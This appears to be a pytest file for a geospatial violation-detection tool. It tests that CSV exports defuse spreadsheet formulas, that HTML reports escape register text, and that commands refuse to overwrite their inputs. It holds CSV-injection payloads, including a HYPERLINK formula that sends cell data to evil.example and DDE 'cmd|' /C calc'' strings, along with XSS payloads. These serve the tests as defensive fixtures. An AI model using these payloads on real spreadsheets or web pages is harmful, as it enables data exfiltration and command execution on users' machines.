"""Audit F (helper-143): the violation lists and the report in other people's hands: a register's
hostile text in Excel/LibreOffice (CSV injection) and in a browser (the report)."""

from __future__ import annotations

import csv
import datetime as dt
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import pyogrio
import pytest
from shapely.geometry import box

from changedetect.io.vectors import write_vector

#: a register's text as an attacker (or a careless clerk) may type it: each a formula in a spreadsheet
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB-0001", "\rCR-0002"]


@pytest.fixture()
def hostile() -> gpd.GeoDataFrame:
    x0, y0 = 686_000.0, 1_192_000.0  # Ho Chi Minh City, EPSG:32648
    n = len(FORMULAS)
    return gpd.GeoDataFrame(
        {
            "violation_id": [f"V-{i}" for i in range(n)],
            "status": ["unlicensed"] * n,
            "permit_ids": [[f, "P-2"] for f in FORMULAS],
            "address": [f"{f} Số 14 Đường Tô Ký" for f in FORMULAS],
            "parcel_id": FORMULAS,
            "excess_area_m2": [-3.5] * n,  # a number, negative: stays a number
            "first_seen": [dt.date(2024, 3, 1)] * n,
        },
        geometry=[box(x0 + 20 * i, y0, x0 + 20 * i + 10, y0 + 15) for i in range(n)],
        crs="EPSG:32648",
    )


def test_the_csv_gives_a_spreadsheet_no_formula_to_run(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
    """A permit number, an address or a parcel id beginning with = + - @ (or a tab, a carriage return) was
    written as it is: Excel and LibreOffice, where inspectors open violations.csv, run it as a formula
    (=HYPERLINK to any site, DDE's =cmd|...).  It is written with a leading ' (OWASP), shown as text;
    the GeoPackage keeps the register's text as it is, and numbers stay numbers."""
    path = write_vector(hostile, tmp_path / "v.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [(k, v) for row in rows for k, v in row.items() if k not in ("excess_area_m2", "lon", "lat")]
    assert not [(k, v) for k, v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [r["parcel_id"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["permit_ids"] for r in rows] == [f"'{f},P-2" for f in FORMULAS]
    assert {r["excess_area_m2"] for r in rows} == {"-3.5"}
    assert (tmp_path / "v.csvt").read_text().startswith("String,String,String,String,String,Real,Date,WKT")
    back = pyogrio.read_dataframe(write_vector(hostile, tmp_path / "v.gpkg"))
    assert list(back["parcel_id"]) == FORMULAS


def test_plain_text_is_written_as_it_is(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
    """Only a cell a spreadsheet would run is changed: an id, a Vietnamese address, a hyphen inside."""
    frame = hostile.iloc[:1].assign(parcel_id="Q12-13-041", address="Số 14 Đường Tô Ký", permit_ids="GP-2024-0031")
    with write_vector(frame, tmp_path / "v.csv").open(encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    assert (row["parcel_id"], row["address"], row["permit_ids"]) == ("Q12-13-041", "Số 14 Đường Tô Ký",
                                                                     "GP-2024-0031")


def test_a_carriage_return_inside_a_text_keeps_the_row_whole(hostile: gpd.GeoDataFrame, tmp_path: Path) -> None:
    """An address with a carriage return alone in it (an old Mac line break, a register pasted from a form) was
    written unquoted: every reader (Excel, pandas, GDAL) split the row there, and its wkt, lon and lat went
    into the next row's columns.  The CSV now ends its lines as RFC 4180 does (CRLF), and such a text is quoted."""
    import pandas as pd

    frame = hostile.iloc[:2].assign(address=["Số 14\rĐường Tô Ký", "Số 16\r\nĐường Tô Ký"])
    path = write_vector(frame, tmp_path / "v.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["address"] for r in rows] == ["Số 14\rĐường Tô Ký", "Số 16\r\nĐường Tô Ký"]
    assert len(pd.read_csv(path)) == 2 and len(pyogrio.read_dataframe(path)) == 2


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()
        self.sources: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.update(name for name, _ in attrs)
        self.sources += [str(v) for name, v in attrs if name in ("src", "href")]


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_the_report_escapes_every_register_text(hostile: gpd.GeoDataFrame, lang: str) -> None:
    """Every text of a card (permit, address, parcel, id, reason, status, change type, title) as markup:
    the page holds no element or attribute but its own (checked 2026-12-03 on the sample city with a
    hostile register and parcel layer: none; this keeps it so)."""
    from changedetect.config import ReportConfig
    from changedetect.report import render_report

    xss = ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', "<b onmouseover=alert(3)>x</b>"]
    rows = hostile.iloc[:3].copy()
    for col in ("violation_id", "permit_ids", "address", "parcel_id", "reason", "change_type"):
        rows[col] = xss
    rows["parcel_address"] = xss
    rows["parcel_land_use"] = xss
    rows["status"] = ["unlicensed", xss[1], xss[2]]
    page = render_report(rows, config=ReportConfig(title=xss[0], lang=lang, max_cards=0),
                         run_info={"model": xss[1], "before": xss[2]})
    seen = _Tags()
    seen.feed(page)
    assert not seen.tags & {"script", "iframe", "object", "embed", "link", "a"}
    assert all(src.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")) for src in seen.sources)  # its own images only
    assert not [a for a in seen.attrs if a.startswith("on")]
    assert "alert(1)" in page and "onerror" in page  # shown, as text


def test_the_reports_imagery_is_jpeg_a_fifth_of_png(tmp_path: Path) -> None:
    """The chips and the overview were PNG: a photo barely compresses so (the sample city's 200 px chips
    49 kB each, its overview 2.4 MB; a report of 500 cards over 2,000 violations 51 MB, written in 38 s,
    all 2,000 cards 201 MB in 222 s, most of it PNG encoding).  As JPEG (quality 90, colour 4:4:4) a chip
    takes about 11 kB, the outline keeps its colour, and the report stays one self-contained file."""
    import base64
    import io
    import re

    from PIL import Image

    from changedetect.io import open_series
    from changedetect.report import write_report

    stack = open_series(Path(__file__).parents[1] / "sample_tiles").to_stack()
    left, top = float(stack["x"][0]), float(stack["y"][0])
    frame = gpd.GeoDataFrame(
        {"violation_id": ["V-1", "V-2"], "status": ["unlicensed", "exceeds_permit"], "area_m2": [300.0, 200.0]},
        geometry=[box(left + 100, top - 140, left + 120, top - 125), box(left + 300, top - 340, left + 316, top - 330)],
        crs=stack.rio.crs)
    text = write_report(frame, out_path=tmp_path / "r.html", stack=stack).read_text(encoding="utf-8")
    uris = re.findall(r'src="data:image/([a-z]+);base64,([^"]+)"', text)
    assert [kind for kind, _ in uris] == ["jpeg"] * 5  # the overview, then before and after per card
    chips = [base64.b64decode(data) for _, data in uris[1:]]
    assert max(map(len, chips)) < 20_000, [len(c) for c in chips]
    chip = Image.open(io.BytesIO(chips[1])).convert("RGB")  # the first card's AFTER: unlicensed, outlined red
    red = [p for p in chip.getdata() if abs(p[0] - 230) < 30 and p[1] < 60 and abs(p[2] - 45) < 30]
    assert len(red) > 100, len(red)
    assert len(text) < 1_500_000


@pytest.mark.parametrize("which", ["permits", "footprints"])
def test_match_refuses_to_write_over_its_register_or_footprints(tmp_path: Path, which: str,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """`changedetect match fp.gpkg --permits register.gpkg --out register.gpkg --overwrite` (a slip of the
    keyboard in a city's script) replaced the register with the violation list, exit 0."""
    import shutil

    import changedetect.cli as cdcli

    root = Path(__file__).parents[1]
    register = shutil.copy(root / "permits" / "sample_register.gpkg", tmp_path / "register.gpkg")
    footprints = write_vector(gpd.GeoDataFrame(
        {"footprint_id": ["F-1"], "area_m2": [150.0]},
        geometry=[box(679900.0, 1202000.0, 679910.0, 1202015.0)], crs="EPSG:32648"), tmp_path / "fp.gpkg")
    target = register if which == "permits" else footprints
    before = Path(target).read_bytes()
    cdcli._STATE["debug"] = False
    with pytest.raises(SystemExit) as info:
        cdcli.main(["match", str(footprints), "--permits", str(register), "--out", str(target), "--overwrite"])
    err = capsys.readouterr().err
    said = "permit register" if which == "permits" else "footprints file"
    assert info.value.code not in (0, None) and f"is the {said} this reads" in err and "Traceback" not in err
    assert Path(target).read_bytes() == before


def test_report_refuses_to_write_over_the_violation_list(hostile: gpd.GeoDataFrame, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """`changedetect report --violations v.gpkg --out v.gpkg --overwrite` replaced the violation list with
    the HTML report, exit 0 (and the next report of it could not read it)."""
    import changedetect.cli as cdcli

    listed = write_vector(hostile, tmp_path / "v.gpkg")
    before = listed.read_bytes()
    cdcli._STATE["debug"] = False
    with pytest.raises(SystemExit) as info:
        cdcli.main(["report", "--violations", str(listed), "--out", str(listed), "--overwrite"])
    err = capsys.readouterr().err
    assert info.value.code not in (0, None) and "is the violation list this reads" in err, err
    assert "Traceback" not in err and listed.read_bytes() == before


def test_vectorize_refuses_to_write_over_the_buildings_layer(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    """`changedetect vectorize prob.tif --buildings city.gpkg --out city.gpkg --overwrite` replaced the city's
    building layer with the footprints, exit 0.  (--previous may be the --out: tonight's footprints replace
    the last run's, their ids carried over.)"""
    import numpy as np
    import rasterio
    from rasterio.transform import from_origin

    import changedetect.cli as cdcli

    prob = np.zeros((64, 64), dtype="float32")
    prob[10:30, 10:30] = 0.9
    with rasterio.open(tmp_path / "prob.tif", "w", driver="GTiff", width=64, height=64, count=1, dtype="float32",
                       crs="EPSG:32648", transform=from_origin(686_000, 1_192_032, 0.5, 0.5)) as dst:
        dst.write(prob, 1)
    city = write_vector(gpd.GeoDataFrame({"building_id": ["B-1"]}, geometry=[box(686_000, 1_192_000, 686_004, 1_192_004)],
                                         crs="EPSG:32648"), tmp_path / "city.gpkg")
    before = city.read_bytes()
    cdcli._STATE["debug"] = False
    with pytest.raises(SystemExit) as info:
        cdcli.main(["-q", "vectorize", str(tmp_path / "prob.tif"), "--buildings", str(city), "--out", str(city),
                    "--overwrite"])
    err = capsys.readouterr().err
    assert info.value.code not in (0, None) and "is the buildings layer this reads" in err, err
    assert "Traceback" not in err and city.read_bytes() == before
